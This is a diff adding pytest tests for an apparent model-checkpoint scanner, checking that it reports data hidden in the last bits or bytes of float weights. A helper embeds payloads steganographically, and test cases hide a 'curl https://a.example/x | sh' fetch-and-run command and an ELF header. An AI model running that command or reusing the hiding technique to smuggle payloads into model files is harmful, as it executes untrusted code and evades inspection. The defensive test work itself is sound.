@@ -190,3 +190,45 @@ def test_a_tree_is_inert(tmp_path):
     value = tree.read(io.BytesIO(stream(system())))
     assert isinstance(value, tree.Made)
     assert str(value.function) == "os.system"
+
+
+def hidden(data: bytes, message: bytes, *, bits: bool) -> np.ndarray:
+    """Numbers whose last bits, or bytes, are a message."""
+    numbers = np.frombuffer(data, "<u4").copy()
+    if bits:
+        secret = np.unpackbits(np.frombuffer(message, np.uint8))
+        numbers[: len(secret)] = (numbers[: len(secret)] & ~np.uint32(1)) | secret
+    else:
+        secret = np.frombuffer(message, np.uint8)
+        numbers[: len(secret)] = (numbers[: len(secret)] & ~np.uint32(255)) | secret
+    return numbers.view("<f4")
+
+
+@pytest.mark.parametrize(
+    ("made", "words"),
+    [
+        (lambda plain: plain, None),
+        (lambda plain: np.where(np.arange(4096) == 7, np.nan, plain).astype("<f4"), "1 of 4,096 sampled numbers"),
+        (lambda plain: hidden(plain.tobytes(), b"curl https://a.example/x | sh; exit 0", bits=True), "last bits"),
+        (lambda plain: hidden(plain.tobytes(), b"\x7fELF\x02\x01\x01" + bytes(90), bits=True), "like a program"),
+        (lambda plain: hidden(plain.tobytes(), b"curl https://a.example/x | sh; exit 0", bits=False), "last bytes"),
+    ],
+)
+def test_samples_of_the_numbers_tell_what_does_not_belong_there(tmp_path, made, words):
+    plain = np.random.default_rng(3).standard_normal(4096).astype("<f4")
+    path = checkpoint(tmp_path, entries(w=tensor("0", 0, (4096,), (1,))), _0=made(plain).tobytes())
+    result = CliRunner().invoke(command, ["scan", str(path), "--weights"], standalone_mode=False)
+    assert "clean" in result.output
+    assert (words in result.output) if words else ("note:" not in result.output)
+
+
+def test_safetensors_are_read_as_they_are_written(tmp_path):
+    path = checkpoint(tmp_path, entries(w=tensor("0", 0, (3, 4), (4, 1))), _0=NUMBERS.tobytes())
+    convert(path)
+    with read(tmp_path / "model.safetensors") as found:
+        (one,) = found.tensors.values()
+        assert (one.name, one.kind, one.shape) == ("w", "F32", (3, 4))
+        assert b"".join(one.parts()) == NUMBERS.tobytes()
+    (tmp_path / "x.bin").write_bytes(b"none of these")
+    with pytest.raises(NotUnderstood, match="none that tensors"), read(tmp_path / "x.bin"):
+        pass
